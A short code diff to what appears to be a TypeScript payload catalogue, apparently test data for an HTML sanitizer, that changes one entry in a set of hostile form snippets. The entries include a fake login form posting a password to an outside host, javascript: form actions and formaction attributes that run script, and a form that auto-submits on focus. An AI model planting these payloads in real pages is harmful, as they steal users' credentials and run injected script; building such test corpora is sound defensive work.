@@ -2,7 +2,7 @@ import { FAR, HIT, RUN, type Family } from './payload';
 
 /** Controls that ask, send or take the focus. */
 export const FORMS: Family = {
-  'a form that steals': `<form action="${FAR}"><input name="password" type="password"><button>Log in</button></form>`,
+  'a form that steals': `<form action="${FAR}"><input name="password"><button>Log in</button></form>`,
   'a form with its own script': `<form action="javascript:${RUN}"><input type="submit" value="Go"></form>`,
   'a form that sends on focus': `<form action="${HIT}" onfocusin="submit()"><input autofocus></form>`,
   'a button that leads elsewhere': `<form><button formaction="javascript:${RUN}" formmethod="post">Go</button></form>`,
